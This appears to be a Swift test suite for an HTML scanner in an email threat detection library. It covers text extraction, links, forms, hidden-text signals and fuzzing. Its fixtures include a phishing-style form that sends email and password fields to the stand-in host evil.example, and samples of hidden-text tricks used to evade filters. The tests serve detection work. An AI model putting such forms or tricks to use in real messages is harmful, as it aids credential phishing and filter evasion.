import Testing
@testable import MailThreatCore

struct HTMLScannerTests {
    @Test func visibleTextDropsNonRenderedPartsAndBreaksBlocks() {
        let html = """
            <html><head><title>Hi &amp;
            bye</title><style>p{color:red}</style><script>var x="<b>text</b>";</script></head>
            <body><p>Hello&nbsp;&nbsp;world</p><div>Line1<br>Line2</div><!-- secret --><?pi x?>
            <p>Last   one</p></body></html>
            """
        let content = HTMLScanner.scan(html)
        #expect(content.visibleText == "Hello world\nLine1\nLine2\nLast one")
        #expect(content.title == "Hi & bye")
        #expect(content.counts.scripts == 1)
        #expect(content.counts.styles == 1)
        #expect(content.counts.comments == 1)
        #expect(content.counts.commentCharacters == 8)
        #expect(!content.truncated)
    }

    @Test func impliedEndTagsOfListsAndTables() {
        let content = HTMLScanner.scan("<ul><li>one<li>two</ul><table><tr><td>a<td>b<tr><td>c</table><p>x<p>y")
        #expect(content.visibleText == "one\ntwo\na b\nc\nx\ny")
        #expect(content.counts.tables == 1)
    }

    @Test func linksWithAnchorTextTitleAndImages() {
        let html = """
            <a href=" http://x.example/a " title="T &amp; C">Click <b>here</b></a> <a name=top>anchor</a>
            <area href="http://map.example/" alt="Map"><a href="http://img.example/"><img src="http://img.example/i.png"
            width="1" height="1px" alt="pixel"></a><a href="javascript:void(0)">first<a href="mailto:a@b.example">second</a>
            """
        let content = HTMLScanner.scan(html)
        #expect(content.links.map(\.href) == ["http://x.example/a", "http://map.example/", "http://img.example/",
                                             "javascript:void(0)", "mailto:a@b.example"])
        #expect(content.links[0].text == "Click here")
        #expect(content.links[0].title == "T & C")
        #expect(content.links[1].isArea && content.links[1].text == "Map")
        #expect(content.links[2].containsImage && content.links[2].text.isEmpty)
        #expect(content.links[3].text == "first")
        #expect(content.links[4].text == "second")
        #expect(content.images == [HTMLImage(src: "http://img.example/i.png", width: 1, height: 1, alt: "pixel")])
        #expect(content.images[0].isTiny)
        #expect(content.counts.links == 5)
        #expect(content.visibleText == "Click here anchor firstsecond")
    }

    @Test func formsAndInputsOutsideForms() {
        let html = """
            <form action="http://evil.example/post.php" method="POST"><input type="text" name="Email">
            <input type=password name=pass><input type=hidden name=t value=1><input type=submit value=Go></form>
            <input type=password name=PIN>
            """
        let content = HTMLScanner.scan(html)
        #expect(content.forms.count == 2)
        var expected = HTMLForm(action: "http://evil.example/post.php", method: "post")
        expected.inputCount = 4
        expected.textInputCount = 1
        expected.passwordInputCount = 1
        expected.hiddenInputCount = 1
        expected.submitCount = 1
        expected.fieldNames = ["email", "pass"]
        #expect(content.forms[0] == expected)
        #expect(content.forms[1].isImplicit)
        #expect(content.forms[1].passwordInputCount == 1)
        #expect(content.forms[1].fieldNames == ["pin"])
        #expect(content.counts.forms == 1)
        #expect(content.counts.inputs == 5)
    }

    @Test func hiddenTextSignals() {
        let html = """
            <style>.hid { visibility: hidden } @media (max-width:600px) { .mobile { display:none } }</style>
            <div style="display:none">secret words</div><span style="font-size:0px">tiny</span>
            <font color="#ffffff">white</font><p style="color:#FFF;background-color:#000">visible</p>
            <div class="x hid">klass</div><div class="mobile">shown</div>in\u{200B}visible
            <div style="max-height:0;overflow:hidden;mso-hide:all">pre</div>
            """
        let content = HTMLScanner.scan(html)
        #expect(content.visibleText == "visible\nshown\ninvisible")
        let hidden = content.hiddenText
        #expect(hidden.hiddenCharacterCount == 11 + 4 + 5 + 5 + 3)
        #expect(hidden.hiddenElementCount == 5)
        #expect(hidden.displayNoneCount == 2)
        #expect(hidden.tinyFontCount == 1)
        #expect(hidden.colorMatchesBackgroundCount == 1)
        #expect(hidden.visibilityHiddenCount == 1)
        #expect(hidden.zeroSizeCount == 1)
        #expect(hidden.zeroWidthCharacterCount == 1)
        #expect(hidden.sample == "secret words tiny white klass pre")
    }

    @Test func backgroundImageMakesColourUnknown() {
        let content = HTMLScanner.scan(##"<td background="b.gif"><font color="#ffffff">on image</font></td>"##)
        #expect(content.visibleText == "on image")
        #expect(content.hiddenText.hiddenElementCount == 0)
    }

    @Test func baseAndMetaRefresh() {
        let html = #"<base href="http://base.example/"><meta http-equiv="Refresh" content="0; URL='http://next.example/?a=1&amp;b'">"#
        let content = HTMLScanner.scan(html)
        #expect(content.baseHref == "http://base.example/")
        #expect(content.metaRefreshURL == "http://next.example/?a=1&b")
    }

    @Test func countsEmbeddedContent() {
        let content = HTMLScanner.scan("<iframe src=x></iframe><frame><object></object><embed><applet></applet><table></table>")
        #expect(content.counts.iframes == 2)
        #expect(content.counts.objects == 3)
        #expect(content.counts.tables == 1)
        #expect(content.counts.tags == 6)
    }

    @Test func limitsSetTruncated() {
        var limits = HTMLScanLimits()
        limits.maximumLinks = 2
        let links = HTMLScanner.scan("<a href=1>a</a><a href=2>b</a><a href=3>c</a>", limits: limits)
        #expect(links.links.count == 2)
        #expect(links.counts.links == 3)
        #expect(links.truncated)

        limits = HTMLScanLimits()
        limits.maximumTags = 2
        let tags = HTMLScanner.scan("<p>a<p>b<p>c", limits: limits)
        #expect(tags.truncated)
        #expect(tags.visibleText == "a\nb")

        limits = HTMLScanLimits()
        limits.maximumVisibleTextBytes = 5
        let text = HTMLScanner.scan("<p>h\u{E9}llo world", limits: limits)
        #expect(text.visibleText == "h\u{E9}ll")
        #expect(text.truncated)
    }

    @Test func longRunsReferencesAndControlsInText() {
        let html = "<p>Hello,\tWorld!!  This&nbsp;is a reallylongword_with_no_spaces_at_all and caf\u{E9} &amp; more\n\n text"
            + "\u{1}\u{7F}</p><p>&#1;</p><p>&#0;x&#x200B;y</p>"
        #expect(HTMLScanner.scan(html).visibleText
                == "Hello, World!! This is a reallylongword_with_no_spaces_at_all and caf\u{E9} & more text\n\u{FFFD}xy")
        #expect(HTMLScanner.scan(html).hiddenText.zeroWidthCharacterCount == 1)
    }

    @Test func preformattedTextKeepsLineBreaks() {
        #expect(HTMLScanner.scan("<pre>a\nb  c</pre>d").visibleText == "a\nb c\nd")
    }

    @Test func deepNestingAndGarbageAreSafe() {
        let deep = String(repeating: "<div><span style='color:#fff'>", count: 5_000) + "x"
        let content = HTMLScanner.scan(deep)
        #expect(content.hiddenText.hiddenCharacterCount == 1)
        var generator = ModelRandomGenerator(seed: 12)
        let alphabet = Array("<>/=\"' &#;!-[]?abcxyz\u{0}\u{A0}é".utf8)
        for _ in 0..<200 {
            let length = Int.random(in: 0..<2_000, using: &generator)
            let bytes = (0..<length).map { _ in
                Bool.random(using: &generator) ? alphabet.randomElement(using: &generator)! : UInt8.random(in: 0...255, using: &generator)
            }
            let scanned = bytes.withUnsafeBufferPointer { HTMLScanner.scan(utf8: $0) }
            #expect(scanned.visibleText.utf8.count <= 4 * length + 8)
            let html = String(decoding: bytes, as: UTF8.self)
            _ = HTMLAttributeURLs.hrefAndSrc(html)
            _ = HTMLEntities.decode(bytes: bytes)
        }
    }
}
